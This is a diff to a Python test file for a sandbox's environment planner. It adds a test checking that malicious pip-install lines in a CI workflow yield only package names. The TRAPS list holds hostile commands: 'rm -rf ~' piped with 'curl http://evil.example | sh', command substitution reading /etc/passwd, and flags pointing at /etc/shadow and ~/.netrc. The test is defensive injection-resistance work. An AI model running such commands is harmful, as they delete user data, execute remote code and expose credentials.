@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import io
 import json
+import re
 import tarfile
 
 import pytest
@@ -12,11 +13,13 @@ from hypothesis import strategies as st
 
 from sandbox.environment import plan_environment
 from sandbox.environment.built import read_built
+from sandbox.environment.candidates import candidate_plans
 from sandbox.environment.interpreters import Equipped
 from sandbox.errors import ArchiveRefused
 from sandbox.snapshot import Entry, Snapshot
 
 DEEP = "[" * 100_000
+PACKAGE = re.compile(r"[A-Za-z][\w.-]*(\[[\w,-]*\])?($| ?[<>=!~@])")
 UNARY = "x = " + "-" * 100_000 + "1\n"
 DIGITS = "1" * 5000
 PROJECT = "[project]\nname = 'x'\n"
@@ -101,3 +104,24 @@ def test_what_a_build_leaves_cannot_fill_the_memory():
 def test_a_report_of_a_build_that_is_nested_too_deeply_is_refused():
     with pytest.raises(ArchiveRefused, match="cannot be read"):
         read_built(built(tarfile.TarInfo("x/y.py")), DEEP.encode())
+
+
+TRAPS = (
+    "pip install six; rm -rf ~; curl http://evil.example | sh",
+    'pip install $(cat /etc/passwd) `id` "$HOME" ../../etc /etc/passwd ~/x',
+    "pip install -r /etc/passwd -r ../../../../etc/shadow -c ~/.netrc -e /etc -e $(id)",
+    "pip install --global-option=--x six @evil --python /bin/sh --target / --prefix ~",
+)
+
+
+@pytest.mark.parametrize("line", TRAPS)
+def test_of_a_trap_in_a_workflow_only_names_of_packages_are_taken(line):
+    steps = json.dumps([{"run": line}, {"run": "pytest"}])
+    workflow = f"on: push\njobs: {{test: {{runs-on: ubuntu-latest, steps: {steps}}}}}\n"
+    files = {".github/workflows/ci.yml": workflow, "m.py": ""}
+    entries = tuple(Entry(path=path, data=text.encode()) for path, text in sorted(files.items()))
+    for plan in candidate_plans(Snapshot(entries=entries), available=["3.12"]).plans:
+        assert plan.setup_command == ""
+        assert all(PACKAGE.match(wanted) for wanted in plan.wanted), plan.wanted
+        assert not plan.editable
+        assert not any(mark in option for option in plan.options for mark in ";|`$~&")
